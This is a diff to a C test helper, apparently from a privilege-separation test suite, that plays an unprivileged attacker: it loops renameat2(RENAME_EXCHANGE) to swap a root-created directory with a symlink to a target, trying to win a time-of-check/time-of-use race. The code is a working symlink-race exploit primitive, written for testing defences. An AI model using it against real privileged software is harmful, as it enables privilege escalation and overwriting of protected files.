@@ -1,21 +1,22 @@
 /* SPDX-License-Identifier: LGPL-2.1-or-later */
 /* race-swap: the attacker of the stage-hostile-user scenario, run as the server's user. Whenever DIR
- * is a directory of this user's (root made it and handed it over), it puts a symbolic link to TARGET
- * in it, and as soon as DIR/NAME is a directory owned by this user too, exchanges the two in one
- * renameat2(RENAME_EXCHANGE): NAME becomes the link. It spins until STOP exists or 15 minutes pass,
- * then writes "<swaps> <polls>" to OUT. A compiled loop, so that it can win a window of microseconds. */
+ * is this user's (root made it and handed it over), it keeps a symbolic link to TARGET in it and
+ * exchanges that link with DIR/NAME, over and over (renameat2(RENAME_EXCHANGE), one step each): at any
+ * moment NAME is the directory root made or the link, so that root, opening NAME and then a file
+ * inside it, may find the directory the first time and the link the second. It spins until OUT.stop
+ * exists or 15 minutes pass, then writes "<swaps> <polls>" to OUT. A compiled loop, to win a window
+ * of microseconds. */
 #define _GNU_SOURCE
+#include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
-#include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
 
 int main(int argc, char *argv[]) {
         char *path, *link, *stop;
         unsigned long swaps = 0, polls = 0;
-        uid_t uid = getuid();
         time_t end = time(NULL) + 15 * 60;
         FILE *f;
 
@@ -27,19 +28,12 @@ int main(int argc, char *argv[]) {
             asprintf(&link, "%s/.race-link", argv[1]) < 0 || asprintf(&stop, "%s.stop", argv[4]) < 0)
                 return 1;
         for (;;) {
-                struct stat st;
-
                 if ((++polls & 0xffff) == 0 && (access(stop, F_OK) == 0 || time(NULL) > end))
                         break;
-                if (lstat(path, &st) < 0) {
-                        /* a new DIR: ready the link in it (EEXIST once it is there) */
-                        (void)symlink(argv[3], link);
-                        continue;
-                }
-                if (!S_ISDIR(st.st_mode) || st.st_uid != uid)
-                        continue;
                 if (renameat2(AT_FDCWD, link, AT_FDCWD, path, RENAME_EXCHANGE) == 0)
                         swaps++;
+                else if (errno == ENOENT)
+                        (void)symlink(argv[3], link); /* a new DIR, or NAME not made yet */
         }
         f = fopen(argv[4], "we");
         if (!f)
